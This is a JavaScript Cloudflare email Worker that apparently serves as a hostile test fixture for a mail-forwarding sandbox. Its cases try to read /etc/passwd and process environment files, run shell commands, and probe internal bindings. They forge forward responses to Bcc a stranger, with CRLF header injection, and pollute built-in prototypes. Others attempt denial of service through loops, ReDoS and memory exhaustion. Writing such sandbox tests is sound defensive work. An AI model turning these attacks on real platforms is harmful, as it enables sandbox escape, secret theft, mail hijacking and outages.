// A Worker that means harm: it does what the field X-Case of a message asks for, and keeps what it gained in RESULTS.
import { connect } from "cloudflare:sockets";
import { env as importable } from "cloudflare:workers";

// Before anybody else's code has run.
const seen = Object.keys(importable);
const taken = Object.values(importable).filter((value) => typeof value?.fetch === "function");

/** What each of some attempts gained, or why it gained nothing. */
async function attempts(tries) {
  const made = Object.entries(tries).map(async ([name, attempt]) => {
    try {
      return [name, { gained: await attempt() }];
    } catch (error) {
      return [name, { failed: String(error?.message ?? error) }];
    }
  });
  return Object.fromEntries(await Promise.all(made));
}

const STRANGER = "stranger@elsewhere.example";

async function files(message, env) {
  const fs = await import("node:fs");
  const paths = ["/etc/passwd", "/proc/self/environ", "/proc/self/maps", "/proc/1/cmdline", env.STATE, `${env.STATE}/../mailwright.toml`];
  const tries = {};
  for (const path of paths) {
    tries[`read ${path}`] = () => fs.readFileSync(path, "utf8").slice(0, 200);
    tries[`list ${path}`] = () => fs.readdirSync(path).join(" ");
    tries[`fetch ${path}`] = async () => (await (await fetch(`file://${path}`)).text()).slice(0, 200);
  }
  tries.write = () => (fs.writeFileSync("/etc/hostile", "x"), fs.writeFileSync(`${env.STATE}/hostile`, "x"), "written");
  tries.spawn = async () => (await import("node:child_process")).execSync("id").toString();
  tries.worker = async () => new (await import("node:worker_threads")).Worker("1").toString();
  return attempts(tries);
}

async function network(message, env) {
  const tries = {};
  for (const url of env.TARGETS.split(" ")) {
    tries[`fetch ${url}`] = async () => (await fetch(url, { signal: AbortSignal.timeout(1000) })).status;
    tries[`connect ${url}`] = async () => {
      const { hostname, port } = new URL(url);
      const socket = connect({ hostname: hostname.replace(/[[\]]/g, ""), port: Number(port) || 80 });
      const opened = await Promise.race([socket.opened, new Promise((_, stop) => setTimeout(stop, 1000, new Error("time")))]);
      return opened.remoteAddress ?? "opened";
    };
  }
  return attempts(tries);
}

async function allowed(message, env) {
  return attempts({
    direct: async () => (await fetch(env.ALLOWED)).text(),
    redirected: async () => (await fetch(`${env.ALLOWED}redirect`, { signal: AbortSignal.timeout(1000) })).status,
  });
}

async function internals(message, env) {
  const tries = { seen: () => seen.join(" "), inEvent: () => Object.keys(env).join(" "), now: () => Object.keys(importable).join(" ") };
  for (const [at, service] of taken.entries()) {
    for (const binding of ["0", "1", "2", "desk", "tail", "kv:1"]) {
      for (const path of ["/secret", "/may-forward", "/message", "/send"]) {
        const method = path === "/secret" ? "GET" : "POST";
        const body = path === "/may-forward" ? STRANGER : method === "POST" ? "{}" : undefined;
        tries[`${at} ${binding} ${path}`] = async () => {
          const headers = { "mw-binding": binding, "mw-event": "0".repeat(32) };
          const answer = await service.fetch(`http://host${path}`, { method, headers, body });
          return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
        };
      }
    }
  }
  for (const module of ["mailwright-internal:send-email", "mailwright-internal:analytics", "cloudflare-internal:email", "workerd:unsafe", "mailwright-entry"]) {
    tries[`import ${module}`] = async () => Object.keys(await import(module)).join(" ");
  }
  tries.class = () => new env.EMAIL.constructor({ fetch: () => "mine" }).toString();
  tries.code = () => new Function("return 1")();
  return attempts(tries);
}

const json = Response.json;

/** Answers in our place, with whatever it likes. */
function forged(answer) {
  Response.json = (value) => (value && ("forwards" in value || "error" in value) ? answer() : json(value));
}

const hoard = [];

const cases = {
  files,
  network,
  allowed,
  internals,
  honest: (message) => message.forward("team@box.example"),

  async "forge-includes"(message) {
    Array.prototype.includes = () => true;
    Array.prototype.filter = function () { return this; };
    Promise.prototype.then = new Proxy(Promise.prototype.then, { apply: (then, self, given) => Reflect.apply(then, self, given) });
    JSON.parse = () => ({});
    Headers.prototype.get = () => "x";
    await message.forward(STRANGER);
  },
  "forge-answer": (message) => forged(() => json({ forwards: [{ to: STRANGER, headers: [] }] })),
  "forge-fields": (message) =>
    forged(() => json({ forwards: [{ to: "team@box.example", headers: [["Bcc", STRANGER], ["X-A", `a\r\nBcc: ${STRANGER}\r\n\r\nbody`]] }] })),
  "forge-own-zone": (message) => forged(() => json({ forwards: [{ to: "info@victim.test", headers: [] }] })),
  "forge-many": (message) =>
    forged(() => json({ forwards: Array.from({ length: 100_000 }, () => ({ to: "team@box.example", headers: [] })) })),
  "forge-nonsense": (message) => forged(() => new Response('{"forwards":[{"to":{"a":[]}}],"reject":7', { status: 200 })),
  "forge-types": (message) => forged(() => json({ forwards: "team@box.example", reject: { a: 1 }, error: [] })),
  "forge-redirect": (message) => forged(() => new Response(null, { status: 302, headers: { location: "http://127.0.0.1/" } })),
  "forge-giant": (message) => forged(() => new Response("x".repeat(60_000_000))),
  "forge-endless": (message) =>
    forged(() => new Response(new ReadableStream({ pull: (controller) => controller.enqueue(new Uint8Array(65536)) }))),
  "forge-silence": (message) => forged(() => new Promise(() => {})),
  "many-forwards": async (message) => {
    for (let at = 0; at < 100_000; at++) await message.forward("team@box.example");
  },
  "giant-reject": (message) => message.setReject("x".repeat(20_000_000)),
  "giant-error": () => {
    throw new Error("x".repeat(20_000_000));
  },
  "odd-error": () => {
    throw { get message() { throw new Error("again"); }, get stack() { for (;;); }, toString: null };
  },
  null: () => {
    throw null;
  },
  rejections: async (message) => {
    for (let at = 0; at < 1000; at++) Promise.reject(new Error(`unhandled ${at}`));
    await message.forward("team@box.example");
  },
  recursion: () => {
    const again = () => again() + 1;
    return again();
  },

  loop: () => {
    for (;;);
  },
  expression: () => /^(a+)+$/.test(`${"a".repeat(40)}b`),
  logs: () => {
    for (;;) console.log("x".repeat(10_000));
  },
  "many-logs": async (message) => {
    for (let at = 0; at < 2000; at++) console.log("x".repeat(1000));
    await message.forward("team@box.example");
  },
  heap: () => {
    for (;;) hoard.push({ hoard: new Array(1000).fill({ a: hoard.length }).map((one) => ({ ...one })) });
  },
  buffers: () => {
    for (;;) hoard.push(new Uint8Array(1_000_000).fill(1));
  },
  wasm: () => {
    for (;;) hoard.push(new WebAssembly.Memory({ initial: 1000, maximum: 65536 }));
  },
  never: () => new Promise(() => {}),
  "wait-for-ever": (message, env, ctx) => {
    const again = () => new Promise((done) => setTimeout(done, 50)).then(again);
    ctx.waitUntil(again());
  },
  exit: async () => (await import("node:process")).exit(1),
  abort: async () => (await import("node:process")).abort(),
};

export default {
  async email(message, env, ctx) {
    const name = message.headers.get("x-case");
    const gained = await cases[name](message, env, ctx);
    if (gained) await env.RESULTS.put(name, JSON.stringify(gained));
  },
  fetch: () => new Response("well"),
};
